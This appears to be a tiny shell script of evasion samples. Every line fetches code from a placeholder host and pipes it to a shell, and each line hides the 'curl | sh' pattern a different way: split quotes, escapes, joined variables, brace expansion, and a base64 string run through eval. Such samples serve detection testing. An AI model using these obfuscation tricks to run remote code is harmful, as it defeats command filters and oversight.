#!/bin/sh
c'u'r"l" http://x.example | s\h
a=cu b=rl
$a$b x|bash
{curl,-s,x}|sh
x=$(echo Y3VybCB4fHNo | base64 -d); eval "$x"
